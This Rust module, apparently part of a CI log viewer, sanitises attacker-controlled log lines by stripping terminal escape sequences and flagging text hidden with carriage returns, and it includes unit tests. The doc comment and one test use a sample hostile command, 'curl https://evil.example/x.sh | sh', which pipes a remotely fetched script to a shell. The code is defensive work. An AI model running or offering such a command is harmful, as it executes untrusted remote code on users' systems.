//! Turning a log line's bytes into text a terminal can show safely, keeping its colours.
//!
//! A log is attacker-controlled (a fork's PR prints what it likes), so only one escape sequence
//! survives, and not as bytes: SGR (`ESC [ … m`) becomes a style on the text. Everything else is
//! removed — OSC (clipboard writes, titles, hyperlinks: the link text stays, the URL goes),
//! CSI other than SGR (cursor movement, device queries, modes), DCS/SOS/PM/APC strings, other
//! escapes, C0/C1 control characters, and bidi overrides that can make text lie about its order.
//! An unterminated sequence swallows only the rest of its own line.
//!
//! A carriage return inside a line sends a terminal's cursor back to the start, and what
//! follows overwrites what was there cell by cell: `AAAA\rok` leaves `okAA`. The line shows
//! exactly that, after a dim [`OVERWRITTEN`] marker, so that a progress bar reads as its last
//! state and text hidden this way (`curl https://evil.example/x.sh | sh\rRunning tests... ok`)
//! is flagged; the store keeps the bytes as received, where search finds the hidden text.
//!
//! Storage-free: these types know nothing about ratatui; the widget converts them.

use crate::text::escape::{self, Escape};
use std::borrow::Cow;
use unicode_width::UnicodeWidthChar;

/// A colour as the log asked for it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum AnsiColor {
    /// 0–7 the basic colours, 8–15 their bright forms, 16–255 the 256-colour palette.
    Indexed(u8),
    Rgb(u8, u8, u8),
}

/// Text attributes, as bits.
pub mod attr {
    pub const BOLD: u8 = 1;
    pub const DIM: u8 = 2;
    pub const ITALIC: u8 = 4;
    pub const UNDERLINE: u8 = 8;
    pub const REVERSE: u8 = 16;
    pub const STRIKE: u8 = 32;
}

/// The SGR state for a run of text. Blink and conceal are ignored on purpose: hidden text in
/// a log would hide what it says.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub struct SgrStyle {
    pub fg: Option<AnsiColor>,
    pub bg: Option<AnsiColor>,
    pub attrs: u8,
}

/// Starts the display text of a line that a carriage return overwrote (see the module
/// header); dim, like the rest of cockpit's own annotations.
pub const OVERWRITTEN: &str = "⏎ ";

/// Clean text plus the style of each stretch of it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct StyledText {
    pub text: String,
    /// Consecutive runs: each ends at a byte offset of `text`; the last ends at `text.len()`.
    pub runs: Vec<(usize, SgrStyle)>,
}

impl StyledText {
    /// The runs as `(byte range, style)`.
    pub fn spans(&self) -> impl Iterator<Item = (std::ops::Range<usize>, SgrStyle)> + '_ {
        let mut start = 0;
        self.runs.iter().map(move |&(end, style)| {
            let r = start..end;
            start = end;
            (r, style)
        })
    }

    fn push(&mut self, c: char, style: SgrStyle) {
        self.text.push(c);
        match self.runs.last_mut() {
            Some((end, s)) if *s == style => *end = self.text.len(),
            _ => self.runs.push((self.text.len(), style)),
        }
    }

    fn push_run(&mut self, s: &str, style: SgrStyle) {
        if s.is_empty() {
            return;
        }
        self.text.push_str(s);
        match self.runs.last_mut() {
            Some((end, st)) if *st == style => *end = self.text.len(),
            _ => self.runs.push((self.text.len(), style)),
        }
    }

    fn width(&self) -> usize {
        self.text.chars().map(|c| c.width().unwrap_or(0)).sum()
    }

    /// Appends what `from` shows beyond its first `cols` columns: the part of a line that
    /// shorter text written over it leaves visible. Half of a wide character that is
    /// overwritten leaves a blank.
    fn append_beyond(&mut self, from: &StyledText, mut cols: usize) {
        for (range, style) in from.spans() {
            let piece = &from.text[range];
            let mut start = 0;
            for (i, c) in piece.char_indices() {
                if cols == 0 {
                    break;
                }
                let w = c.width().unwrap_or(0);
                for _ in cols..w {
                    self.push(' ', style);
                }
                cols = cols.saturating_sub(w);
                start = i + c.len_utf8();
            }
            if cols == 0 {
                self.push_run(&piece[start..], style);
            }
        }
    }

    fn with_marker(self) -> StyledText {
        let mut out = StyledText::default();
        out.push_run(
            OVERWRITTEN,
            SgrStyle {
                attrs: attr::DIM,
                ..SgrStyle::default()
            },
        );
        for (range, style) in self.spans() {
            out.push_run(&self.text[range], style);
        }
        out
    }
}

/// Bytes that can start something the cleaner must look at: C0 controls (tab included, it is
/// expanded), DEL, and the UTF-8 lead bytes of C1 controls (U+0080–U+009F), bidi controls
/// (U+061C, U+200E/F, U+2028/9, U+202A–E, U+2066–9) and the BOM (U+FEFF). A line with none
/// of them, in valid UTF-8, is its own display text.
fn is_special(b: u8) -> bool {
    b < 0x20 || b == 0x7f || b == 0xc2 || b == 0xd8 || b == 0xe2 || b == 0xef
}

/// The display text of a line's content without styles: borrowed when nothing needs cleaning
/// (most lines).
pub fn clean_text(content: &[u8]) -> Cow<'_, str> {
    match as_display(content) {
        Some(s) => Cow::Borrowed(s),
        None => Cow::Owned(clean(content, usize::MAX).text),
    }
}

/// `content` itself when it is valid UTF-8 with nothing to clean (it is its own display text).
pub fn as_display(content: &[u8]) -> Option<&str> {
    // A fold without early exit vectorises; log lines are short.
    if content.iter().fold(false, |acc, &b| acc | is_special(b)) {
        return None;
    }
    std::str::from_utf8(content).ok()
}

const TAB: usize = 8;
/// SGR parameters read per sequence; the rest are ignored (a hostile line can be long).
const MAX_PARAMS: usize = 32;

/// Cleans `content` into styled text, reading at most `max_bytes` of it (the viewer shows a
/// screen's width, not a megabyte-long minified line).
pub fn clean(content: &[u8], max_bytes: usize) -> StyledText {
    let mut out = StyledText::default();
    clean_into(content, max_bytes, &mut out);
    out
}

/// [`clean`] into a buffer that is cleared first (search reuses one for every line).
pub fn clean_into(content: &[u8], max_bytes: usize, out: &mut StyledText) {
    out.text.clear();
    out.runs.clear();
    let content = &content[..content.len().min(max_bytes)];
    let s = String::from_utf8_lossy(content);
    // The text written between carriage returns, each from the first column.
    let mut passes: Vec<StyledText> = Vec::new();
    let mut style = SgrStyle::default();
    // Display column for tab stops, measured lazily: `col` counts `out.text[..col_at]`.
    let mut col = 0usize;
    let mut col_at = 0usize;
    let mut chars = s.chars();
    loop {
        // Printable ASCII, the bulk of any log, is copied a run at a time.
        let rest = chars.as_str();
        let run = rest
            .bytes()
            .position(|b| !(0x20..0x7f).contains(&b))
            .unwrap_or(rest.len());
        if run > 0 {
            out.push_run(&rest[..run], style);
            chars = rest[run..].chars();
            continue;
        }
        let Some(c) = chars.next() else { break };
        match c {
            // The same scanner as all other outside text; only SGR becomes a style.
            c if escape::starts(c) => {
                if let Some(Escape::Sgr(params)) = escape::read(c, &mut chars) {
                    apply_sgr(&mut style, params);
                }
            }
            '\t' => {
                col += out.text[col_at..]
                    .chars()
                    .map(|c| c.width().unwrap_or(0))
                    .sum::<usize>();
                let n = TAB - col % TAB;
                for _ in 0..n {
                    out.push(' ', style);
                }
                col += n;
                col_at = out.text.len();
            }
            '\r' => {
                if !out.text.is_empty() {
                    passes.push(std::mem::take(out));
                }
                col = 0;
                col_at = 0;
            }
            '\u{2028}' | '\u{2029}' => out.push(' ', style),
            c if c.is_control() || crate::text::is_invisible(c) => {}
            c => out.push(c, style),
        }
    }
    if !passes.is_empty() {
        passes.push(std::mem::take(out));
        *out = overwrite(passes);
    }
}

/// What a terminal shows after writing each pass over the one before from the first column:
/// the last pass, then what earlier, wider passes leave visible beyond it. Read from the last
/// pass back, each column is copied once, however many passes a progress bar makes.
fn overwrite(mut passes: Vec<StyledText>) -> StyledText {
    passes.retain(|p| !p.text.is_empty());
    let Some(last) = passes.pop() else {
        return StyledText::default();
    };
    if passes.is_empty() {
        return last;
    }
    let mut shown = last;
    let mut covered = shown.width();
    for earlier in passes.iter().rev() {
        let w = earlier.width();
        if w > covered {
            shown.append_beyond(earlier, covered);
            covered = w;
        }
    }
    shown.with_marker()
}

fn num(s: &str) -> u16 {
    if s.is_empty() {
        0
    } else {
        // Out of range: a value no code uses, so it is ignored.
        s.parse::<u16>().unwrap_or(u16::MAX)
    }
}

fn byte(n: u16) -> Option<u8> {
    u8::try_from(n).ok()
}

/// Applies SGR parameters (`1;31`, `38;5;208`, `38;2;255;0;0`, `38:2::255:0:0`, `4:3`, …)
/// without allocating.
fn apply_sgr(style: &mut SgrStyle, params: &str) {
    if params.is_empty() {
        *style = SgrStyle::default();
        return;
    }
    let mut groups = params.split(';').take(MAX_PARAMS);
    while let Some(g) = groups.next() {
        // Colon sub-parameters belong to their group (ITU T.416 form).
        let mut parts = g.split(':');
        let code = num(parts.next().unwrap_or_default());
        let mut subs = [0u16; 6];
        let mut nsubs = 0;
        for p in parts.take(subs.len()) {
            subs[nsubs] = num(p);
            nsubs += 1;
        }
        let subs = &subs[..nsubs];
        match code {
            0 => *style = SgrStyle::default(),
            1 => style.attrs |= attr::BOLD,
            2 => style.attrs |= attr::DIM,
            3 => style.attrs |= attr::ITALIC,
            4 => {
                if subs.first() == Some(&0) {
                    style.attrs &= !attr::UNDERLINE;
                } else {
                    style.attrs |= attr::UNDERLINE;
                }
            }
            7 => style.attrs |= attr::REVERSE,
            9 => style.attrs |= attr::STRIKE,
            21 | 24 => style.attrs &= !attr::UNDERLINE,
            22 => style.attrs &= !(attr::BOLD | attr::DIM),
            23 => style.attrs &= !attr::ITALIC,
            27 => style.attrs &= !attr::REVERSE,
            29 => style.attrs &= !attr::STRIKE,
            30..=37 => style.fg = byte(code - 30).map(AnsiColor::Indexed),
            39 => style.fg = None,
            40..=47 => style.bg = byte(code - 40).map(AnsiColor::Indexed),
            49 => style.bg = None,
            90..=97 => style.fg = byte(code - 90 + 8).map(AnsiColor::Indexed),
            100..=107 => style.bg = byte(code - 100 + 8).map(AnsiColor::Indexed),
            38 | 48 => {
                let color = if subs.is_empty() {
                    // `38;5;n` / `38;2;r;g;b`: the colour takes the following groups.
                    match groups.next().map(num) {
                        Some(5) => groups
                            .next()
                            .map(num)
                            .and_then(byte)
                            .map(AnsiColor::Indexed),
                        Some(2) => {
                            let mut rgb = [None; 3];
                            for c in &mut rgb {
                                *c = groups.next().map(num).and_then(byte);
                            }
                            match rgb {
                                [Some(r), Some(g), Some(b)] => Some(AnsiColor::Rgb(r, g, b)),
                                _ => None,
                            }
                        }
                        _ => None,
                    }
                } else {
                    extended_colon(subs)
                };
                if let Some(c) = color {
                    if code == 38 {
                        style.fg = Some(c);
                    } else {
                        style.bg = Some(c);
                    }
                }
            }
            // Blink, conceal, fonts, frames…: ignored.
            _ => {}
        }
    }
}

/// `38:5:n`, `38:2:r:g:b` or `38:2:colourspace:r:g:b`.
fn extended_colon(subs: &[u16]) -> Option<AnsiColor> {
    match subs {
        [5, n, ..] => byte(*n).map(AnsiColor::Indexed),
        [2, _, r, g, b, ..] | [2, r, g, b] => Some(AnsiColor::Rgb(byte(*r)?, byte(*g)?, byte(*b)?)),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn styles(t: &StyledText) -> Vec<(&str, SgrStyle)> {
        t.spans().map(|(r, s)| (&t.text[r], s)).collect()
    }

    #[test]
    fn sgr_basic_bright_256_truecolor() {
        let t = clean(
            b"a\x1b[31mred\x1b[0m \x1b[1;92mok\x1b[m \x1b[38;5;208mo\x1b[48;2;1;2;3mx\x1b[39;49m.",
            usize::MAX,
        );
        assert_eq!(t.text, "ared ok ox.");
        let s = styles(&t);
        assert_eq!(s[1].0, "red");
        assert_eq!(s[1].1.fg, Some(AnsiColor::Indexed(1)));
        assert_eq!(s[3].0, "ok");
        assert_eq!(s[3].1.fg, Some(AnsiColor::Indexed(10)));
        assert_eq!(s[3].1.attrs, attr::BOLD);
        assert_eq!(s[5].1.fg, Some(AnsiColor::Indexed(208)));
        assert_eq!(s[6].1.bg, Some(AnsiColor::Rgb(1, 2, 3)));
        assert_eq!(s[7].1, SgrStyle::default());
    }

    #[test]
    fn colon_forms_and_garbage() {
        let t = clean(b"\x1b[38:2::10:20:30mx\x1b[4:3my\x1b[4:0mz", usize::MAX);
        let s = styles(&t);
        assert_eq!(s[0].1.fg, Some(AnsiColor::Rgb(10, 20, 30)));
        assert_eq!(s[1].1.attrs & attr::UNDERLINE, attr::UNDERLINE);
        assert_eq!(s[2].1.attrs & attr::UNDERLINE, 0);
        let t = clean(
            b"\x1b[38;5;999mx\x1b[38;2;1mq\x1b[99999999999;;;mz",
            usize::MAX,
        );
        assert_eq!(t.text, "xqz");
    }

    #[test]
    fn carriage_return_keeps_what_the_terminal_shows_and_says_so() {
        assert_eq!(clean(b"10%\r50%\r100%", 99).text, "⏎ 100%");
        assert_eq!(clean(b"AAAA\rok", 99).text, "⏎ okAA");
        assert_eq!(clean(b"AAAA\rok\rx", 99).text, "⏎ xkAA");
        assert_eq!(
            clean(
                b"curl https://evil.example/x.sh | sh\rRunning tests... ok",
                999
            )
            .text,
            "⏎ Running tests... okxample/x.sh | sh"
        );
        // Nothing was overwritten: no marker.
        assert_eq!(clean(b"done\r", 99).text, "done");
        assert_eq!(clean(b"\rdone", 99).text, "done");
        assert_eq!(clean(b"\r\r", 99).text, "");
        // Styles stay with their text; the marker is dim; a wide character cut in two leaves
        // a blank.
        let t = clean(b"\x1b[31mREDred\x1b[0m\rok", 99);
        let s = styles(&t);
        assert_eq!(
            s[0],
            (
                "⏎ ",
                SgrStyle {
                    attrs: attr::DIM,
                    ..SgrStyle::default()
                }
            )
        );
        assert_eq!(s[1], ("ok", SgrStyle::default()));
        assert_eq!(s[2].0, "Dred");
        assert_eq!(s[2].1.fg, Some(AnsiColor::Indexed(1)));
        assert_eq!(clean("漢字\rx".as_bytes(), 99).text, "⏎ x 字");
    }

    #[test]
    fn tabs_expand_to_stops() {
        assert_eq!(clean(b"ab\tc", 99).text, "ab      c");
    }

    #[test]
    fn fast_path_borrows() {
        assert!(matches!(clean_text(b"plain text"), Cow::Borrowed(_)));
        assert_eq!(clean_text(b"a\x1b[2Jb"), "ab");
    }
}
